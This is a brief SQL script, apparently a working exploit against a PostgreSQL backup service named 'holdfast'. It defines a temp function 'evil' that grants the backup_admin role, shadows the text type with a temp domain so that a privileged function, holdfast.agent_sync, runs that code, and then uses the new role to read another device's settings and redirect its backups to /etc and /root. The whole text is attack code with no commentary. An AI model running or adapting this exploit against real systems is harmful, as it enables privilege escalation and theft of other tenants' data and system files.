SELECT count(*) AS settings_of_victim_seen FROM settings WHERE device_id='bravo';
CREATE FUNCTION pg_temp.evil(t pg_catalog.text) RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN EXECUTE pg_catalog.format('GRANT backup_admin TO %I', session_user); RETURN true; END $$;
CREATE DOMAIN pg_temp.text AS pg_catalog.text CHECK (pg_temp.evil(VALUE));
SELECT holdfast.agent_sync('alpha','x','linux','h','{}','') IS NOT NULL;
DISCARD TEMP;
SELECT device_id,key,value FROM settings WHERE device_id='bravo';
UPDATE backup_jobs SET source_paths='{/etc,/root}' WHERE device_id='bravo' RETURNING device_id,name,source_paths;
